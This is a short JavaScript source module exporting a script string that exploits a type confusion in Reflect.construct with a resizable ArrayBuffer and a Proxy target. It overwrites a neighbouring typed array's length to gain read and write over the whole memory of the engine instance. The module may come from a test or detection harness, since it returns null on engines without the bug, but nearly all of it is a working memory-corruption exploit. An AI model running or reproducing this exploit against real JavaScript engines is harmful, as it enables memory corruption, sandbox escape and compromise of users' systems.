/**
 * The body of a script that tries to read and change all memory of its instance, by the published type confusion of
 * `Reflect.construct(Uint32Array, [resizable], newTarget)`: `all` is a Uint8Array over the whole memory, or null if the
 * engine does not have the bug.
 */
export const READ_ALL = String.raw`
  function readAll() {
    let confused;
    try {
      const resizable = new ArrayBuffer(65536, { maxByteLength: 65536 });
      const target = new Proxy(function () {}, {
        get(to, key) {
          if (key !== 'prototype') return to[key];
          resizable.resize(8);
          return Uint32Array.prototype;
        },
      });
      confused = Reflect.construct(Uint32Array, [resizable], target);
    } catch {
      return null;
    }
    if (confused[1000] === undefined) return null;
    const buffer = new ArrayBuffer(0x6000);
    const views = [];
    for (let i = 0; i < 300; i++) views.push(new Uint8Array(buffer, 0, 0x5a00 + i));
    for (let at = 1; at < 16384; at++) {
      const view = views[confused[at] - 0x5a00];
      if (view === undefined || confused[at - 1] === 0) continue;
      confused[at - 1] = 0;
      confused[at] = 0x7fffffff;
      return view;
    }
    return null;
  }`;
